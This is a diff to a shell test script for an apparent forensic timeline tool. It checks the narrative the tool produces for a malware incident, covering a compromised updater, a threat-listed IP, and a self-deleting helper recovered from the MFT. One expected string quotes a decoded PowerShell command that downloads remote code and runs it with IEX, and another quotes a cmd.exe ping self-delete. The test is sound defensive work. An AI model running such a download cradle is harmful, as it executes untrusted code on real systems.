@@ -39,13 +39,15 @@ test_expect_success 'the chain has the seven steps in order with their times' '
 
 test_expect_success 'the narrative tells the story in time order, citing records' '
 	sql ref.db "SELECT text FROM narrative WHERE chain_id = 1 ORDER BY seq" >story &&
-	test "$(wc -l <story)" = 7 &&
+	test "$(wc -l <story)" = 8 &&
 	test_grep "^At 2024-03-13 14:00:00 UTC the Task Scheduler started the QuillEdit updater QEUpdate.exe (PID 5120)" story &&
 	test_grep "^At 2024-03-13 14:02:11 UTC .*5.39.218.205 on port 80, an address listed in the threat report" story &&
 	test_grep "^At 2024-03-13 14:02:15 UTC .*started qeupdate_helper.exe (PID 6644), a file it had written 2 seconds earlier" story &&
 	test_grep "decoded, the command reads \"IEX (New-Object Net.WebClient).DownloadString(.http://176.53.118.131/logo.png.)\"" story &&
-	test_grep "^At 2024-03-13 14:02:25 UTC qeupdate_helper.exe started \"cmd.exe /c ping" story &&
-	test_grep "MFT entry 1234 still holds it, and its recovered content has SHA-256 5d1f4c2e" story &&
+	test_grep "^At 2024-03-13 14:02:25 UTC qeupdate_helper.exe started \"cmd.exe /c ping.*\" to delete its own file after a delay\.$" story &&
+	test_grep "^At 2024-03-13 14:02:27 UTC cmd.exe deleted C:.*qeupdate_helper.exe; the file is gone from its folder but MFT entry 1234 still holds it, and its recovered content has SHA-256 5d1f4c2e" story &&
+	sql ref.db "SELECT ts FROM narrative WHERE chain_id = 1 ORDER BY seq" >times &&
+	sort -n times | cmp - times &&
 	test "$(sql ref.db "SELECT count(*) FROM narrative n WHERE NOT EXISTS (SELECT 1 FROM narrative_evidence e WHERE e.narrative_id = n.id)")" = 0 &&
 	test "$(sql ref.db "SELECT count(*) FROM finding f WHERE NOT EXISTS (SELECT 1 FROM finding_evidence e WHERE e.finding_id = f.id)")" = 0
 '
